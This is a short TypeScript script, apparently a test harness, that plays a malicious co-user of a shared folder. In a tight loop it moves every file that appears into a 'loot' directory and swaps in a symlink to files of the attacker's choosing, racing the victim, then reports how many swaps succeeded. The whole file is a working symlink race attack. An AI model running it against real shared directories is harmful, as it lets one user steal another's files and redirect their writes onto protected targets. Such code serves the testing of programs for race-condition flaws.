/**
 * Another user on a shared folder: whatever appears in it is moved away, and a link to the victim's own files is put in its
 * place, as fast as possible, until the standard input ends. `node race-attacker.ts SHARED LOOT TARGET...`
 */
import { readdirSync, renameSync, symlinkSync, unlinkSync } from 'node:fs';
import { join } from 'node:path';

const [shared = '', loot = '', ...targets] = process.argv.slice(2);
let ended = false;
process.stdin.on('end', () => (ended = true)).resume();

let [turn, swaps] = [0, 0];
function attack(): void {
  for (let count = 0; count < 200; count += 1) {
    for (const name of readdirSync(shared)) {
      turn += 1;
      try {
        renameSync(join(shared, name), join(loot, `${turn}`));
        symlinkSync(targets[turn % targets.length] ?? '', join(shared, name));
        swaps += 1;
        if (turn % 5 === 0) unlinkSync(join(shared, name));
      } catch {
        // the victim was quicker
      }
    }
  }
  if (!ended) setImmediate(attack);
  else process.stdout.write(String(swaps));
}
process.stdout.write('ready\n');
attack();
